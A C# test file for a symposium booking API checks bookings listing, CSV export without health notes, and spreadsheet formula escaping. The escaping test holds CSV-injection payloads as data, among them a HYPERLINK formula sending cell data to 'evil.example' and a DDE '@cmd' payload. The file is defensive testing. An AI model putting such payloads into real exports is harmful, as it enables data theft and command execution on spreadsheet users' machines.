using System.Globalization;
using System.Net;
using System.Text;
using System.Text.Json;
using SymposiumBooking.Domain.Bookings;
using SymposiumBooking.Web.Tests.Harness;
using static SymposiumBooking.Web.Tests.Organizers.OrganizerApi;

namespace SymposiumBooking.Web.Tests.Organizers;

/// <summary><c>GET /api/v1/symposia/{id}/bookings</c> as JSON and as a CSV file for a spreadsheet.</summary>
public sealed class BookingsListTests(BookingApp app) : IClassFixture<BookingApp>
{
    private const string HealthNote = "Dysport 300 units into the left SCM last week";

    [Fact]
    public async Task Bookings_are_listed_in_slot_order_with_slot_therapist_attendee_and_price()
    {
        var client = await app.SignedInClientAsync();
        var (id, slots, therapists) = await ScheduleAsync(client, 2031);
        var late = await app.BookAsync(id, slots["Maria 11:10"], "Zoë Müller", "zoe@example.org", "+1 312 555 0100", Rate.Standard, priceCents: 6000);
        var middle = await app.BookAsync(id, slots["Tomás 10:30"], "Pat O'Brien", "pat@example.org", intake: $"{{\"note\":\"{HealthNote}\"}}");
        var early = await app.BookAsync(id, slots["Maria 09:00"], "Ada Attendee", "ada@example.org");
        var other = await client.CreateSymposiumIdAsync(2032);
        var otherShift = await client.AddShiftAsync(other, await client.AddTherapistAsync(other, "Aiko Tanaka"), Bodies.Shift("2032-06-10"));
        await app.BookAsync(other, otherShift.GetProperty("slots")[0].Id(), "Someone Else");

        var response = await client.SendGetAsync($"{Symposium(id)}/bookings");
        var text = await response.Content.ReadAsStringAsync(TestContext.Current.CancellationToken);

        var list = await response.ExpectAsync(HttpStatusCode.OK);
        Assert.Equal([early.ToString(), middle.ToString(), late.ToString()], list.EnumerateArray().Select(b => b.Id()).ToArray());
        var first = list[0];
        Assert.Equal("confirmed", first.Text("status"));
        Assert.Equal(slots["Maria 09:00"], first.Text("slotId"));
        AssertInstant("2031-06-10T09:00:00-05:00", first.GetProperty("startsAt"));
        AssertInstant("2031-06-10T09:50:00-05:00", first.GetProperty("endsAt"));
        Assert.Equal(therapists["Maria"], first.Text("therapistId"));
        Assert.Equal("Maria Keller", first.Text("therapistName"));
        Assert.Equal("Room A", first.Text("location"));
        Assert.Equal("Ada Attendee", first.Text("attendeeName"));
        Assert.Equal("ada@example.org", first.Text("attendeeEmail"));
        Assert.Equal(JsonValueKind.Null, first.GetProperty("phone").ValueKind);
        Assert.Equal("reduced", first.Text("rate"));
        Assert.Equal("atTable", first.Text("payment"));
        Assert.Equal(2500, first.GetProperty("priceCents").GetInt64());
        Assert.Equal("USD", first.Text("currency"));
        Assert.Equal(app.Clock.GetUtcNow(), DateTimeOffset.Parse(first.Text("createdAt"), CultureInfo.InvariantCulture));
        var second = list[1];
        Assert.Equal("Tomás Ortega", second.Text("therapistName"));
        AssertInstant("2031-06-10T10:30:00-05:00", second.GetProperty("startsAt"));
        var third = list[2];
        Assert.Equal("Zoë Müller", third.Text("attendeeName"));
        Assert.Equal("+1 312 555 0100", third.Text("phone"));
        Assert.Equal("standard", third.Text("rate"));
        Assert.Equal(6000, third.GetProperty("priceCents").GetInt64());
        Assert.DoesNotContain("Dysport", text, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("intake", text, StringComparison.OrdinalIgnoreCase);
    }

    [Fact]
    public async Task As_csv_the_bookings_are_a_utf8_spreadsheet_with_a_header_local_times_and_no_health_data()
    {
        var ct = TestContext.Current.CancellationToken;
        var client = await app.SignedInClientAsync();
        var (id, slots, _) = await ScheduleAsync(client, 2033);
        await app.BookAsync(id, slots["Maria 11:10"], "Zoë Müller", "zoe@example.org", "+1 312 555 0100", Rate.Standard, priceCents: 6000);
        await app.BookAsync(id, slots["Tomás 10:30"], "O'Brien, \"Pat\"", "pat@example.org", intake: $"{{\"note\":\"{HealthNote}\"}}");
        await app.BookAsync(id, slots["Maria 09:00"], "Ada Attendee", "ada@example.org", intake: "{\"note\":\"botulinum toxin, pregnant\"}");

        var response = await client.SendGetAsync($"{Symposium(id)}/bookings", "text/csv");

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("text/csv", response.Content.Headers.ContentType?.MediaType);
        var csv = Encoding.UTF8.GetString(await response.Content.ReadAsByteArrayAsync(ct)).TrimStart('\uFEFF');
        var rows = ParseCsv(csv);
        Assert.Equal(4, rows.Count);
        var header = rows[0];
        Assert.All(rows, row => Assert.Equal(header.Count, row.Count));
        Assert.DoesNotContain(header, h => h.Contains("intake", StringComparison.OrdinalIgnoreCase)
            || h.Contains("health", StringComparison.OrdinalIgnoreCase) || h.Contains("note", StringComparison.OrdinalIgnoreCase));
        Assert.DoesNotContain("Dysport", csv, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("botulinum", csv, StringComparison.OrdinalIgnoreCase);

        // In slot order, one line per booking; the comma and quotes of a name stay inside its field.
        Assert.Contains("Ada Attendee", rows[1]);
        Assert.Contains("O'Brien, \"Pat\"", rows[2]);
        Assert.Contains("Zoë Müller", rows[3]);
        Assert.Contains("Tomás Ortega", rows[2]);
        // Venue times (11:10 CDT), never UTC (16:10Z); likewise 09:00 (14:00Z) and 10:30 (15:30Z).
        Assert.Contains(rows[3], f => f.Contains("11:10", StringComparison.Ordinal));
        Assert.Contains(rows[1], f => f.Contains("09:00", StringComparison.Ordinal));
        Assert.Contains(rows[2], f => f.Contains("10:30", StringComparison.Ordinal));
        Assert.DoesNotContain(rows.Skip(1).SelectMany(r => r), f => f.Contains("16:10", StringComparison.Ordinal)
            || f.Contains("14:00", StringComparison.Ordinal) || f.Contains("15:30", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Csv_cells_a_spreadsheet_would_run_as_a_formula_start_with_an_apostrophe()
    {
        var ct = TestContext.Current.CancellationToken;
        var client = await app.SignedInClientAsync();
        var (id, slots, _) = await ScheduleAsync(client, 2035);
        // Written straight to the database, as rows from before control characters were refused could be.
        var hostile = new[]
        {
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+SUM(1,2)", "-2+3", "@cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\0=1+1",
        };
        var names = new[] { "Maria 09:00", "Maria 11:10", "Tomás 10:30" };
        for (var i = 0; i < names.Length; i++)
        {
            await app.BookAsync(id, slots[names[i]], hostile[i], $"formula{i}@example.org", phone: "+1 312 555 0100");
        }

        var csv = Encoding.UTF8.GetString(await (await client.SendGetAsync($"{Symposium(id)}/bookings", "text/csv")).Content.ReadAsByteArrayAsync(ct));
        var rows = ParseCsv(csv.TrimStart('\uFEFF'));

        var attendee = rows[0].IndexOf("attendee");
        var phone = rows[0].IndexOf("phone");
        Assert.Equal(
            new[] { hostile[0], hostile[2], hostile[1] }.Select(n => "'" + n).Order(StringComparer.Ordinal),
            rows.Skip(1).Select(r => r[attendee]).Order(StringComparer.Ordinal));
        Assert.All(rows.Skip(1), r => Assert.Equal("'+1 312 555 0100", r[phone]));
        Assert.All(rows.Skip(1).SelectMany(r => r), cell => Assert.False(cell.Length > 0 && cell[0] is '=' or '+' or '-' or '@' or '\t' or '\r' or '\0', cell));
    }

    [Theory]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    [InlineData("\0=1+1")]
    [InlineData("=1+1")]
    [InlineData("@SUM(A1)")]
    public void A_cell_starting_with_a_tab_cr_or_nul_is_defused_too(string name)
    {
        var row = new Features.Bookings.BookingRow(Guid.NewGuid(), "confirmed", Guid.NewGuid(), DateTimeOffset.UnixEpoch, DateTimeOffset.UnixEpoch,
            Guid.NewGuid(), "Maria Keller", "Room A", name, "a@example.org", null, "standard", "atTable", 6000, "USD", DateTimeOffset.UnixEpoch);

        var rows = ParseCsv(Features.Bookings.BookingCsv.Write([row]));

        Assert.Equal("'" + name, rows[1][rows[0].IndexOf("attendee")]);
    }

    [Fact]
    public async Task An_symposium_without_bookings_lists_none_and_its_csv_is_only_the_header()
    {
        var ct = TestContext.Current.CancellationToken;
        var client = await app.SignedInClientAsync();
        var (id, _, _) = await ScheduleAsync(client, 2034);

        Assert.Equal(0, (await client.SendGetAsync($"{Symposium(id)}/bookings").ExpectAsync(HttpStatusCode.OK)).GetArrayLength());
        var csv = await (await client.SendGetAsync($"{Symposium(id)}/bookings", "text/csv")).Content.ReadAsStringAsync(ct);
        Assert.Single(ParseCsv(csv.TrimStart('\uFEFF')));
    }

    /// <summary>
    /// 10–12 June, CDT. Maria Keller in Room A: 09:00, 10:00, 11:10 (break 11:00–11:10); Tomás Ortega in Room B: 10:30.
    /// </summary>
    private static async Task<(string Id, Dictionary<string, string> Slots, Dictionary<string, string> Therapists)> ScheduleAsync(HttpClient client, int year)
    {
        var id = await client.CreateSymposiumIdAsync(year);
        var maria = await client.AddTherapistAsync(id, "Maria Keller");
        var tomas = await client.AddTherapistAsync(id, "Tomás Ortega");
        var marias = await client.AddShiftAsync(id, maria, Bodies.Shift($"{year}-06-10", "09:00", "12:00", 50, 10, "Room A", ("11:00", "11:10")));
        var tomass = await client.AddShiftAsync(id, tomas, Bodies.Shift($"{year}-06-10", "10:30", "11:00", 25, 5, "Room B"));
        var slots = new Dictionary<string, string>
        {
            ["Maria 09:00"] = marias.GetProperty("slots")[0].Id(),
            ["Maria 11:10"] = marias.GetProperty("slots")[2].Id(),
            ["Tomás 10:30"] = tomass.GetProperty("slots")[0].Id(),
        };
        return (id, slots, new Dictionary<string, string> { ["Maria"] = maria, ["Tomás"] = tomas });
    }

    /// <summary>RFC 4180: fields separated by commas, quoted when they hold commas, quotes or line breaks.</summary>
    private static List<List<string>> ParseCsv(string text)
    {
        var rows = new List<List<string>>();
        var row = new List<string>();
        var field = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < text.Length; i++)
        {
            var c = text[i];
            if (quoted)
            {
                if (c == '"' && i + 1 < text.Length && text[i + 1] == '"')
                {
                    field.Append('"');
                    i++;
                }
                else if (c == '"')
                {
                    quoted = false;
                }
                else
                {
                    field.Append(c);
                }
            }
            else if (c == '"')
            {
                quoted = true;
            }
            else if (c == ',')
            {
                row.Add(field.ToString());
                field.Clear();
            }
            else if (c is '\r' or '\n')
            {
                if (c == '\r' && i + 1 < text.Length && text[i + 1] == '\n')
                {
                    i++;
                }

                row.Add(field.ToString());
                field.Clear();
                rows.Add(row);
                row = [];
            }
            else
            {
                field.Append(c);
            }
        }

        if (field.Length > 0 || row.Count > 0)
        {
            row.Add(field.ToString());
            rows.Add(row);
        }

        return rows;
    }
}
